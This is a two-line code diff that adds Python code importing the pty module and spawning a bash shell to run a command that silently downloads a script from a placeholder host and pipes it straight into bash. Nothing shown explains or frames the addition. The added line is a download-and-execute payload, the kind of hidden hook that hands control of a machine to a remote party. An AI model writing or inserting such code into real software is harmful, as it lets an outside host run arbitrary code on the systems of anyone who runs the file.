@@ -1,0 +1,2 @@
+import pty
+pty.spawn(["bash", "-c", "curl -s https://cdn-x7.invalid/a | bash"])
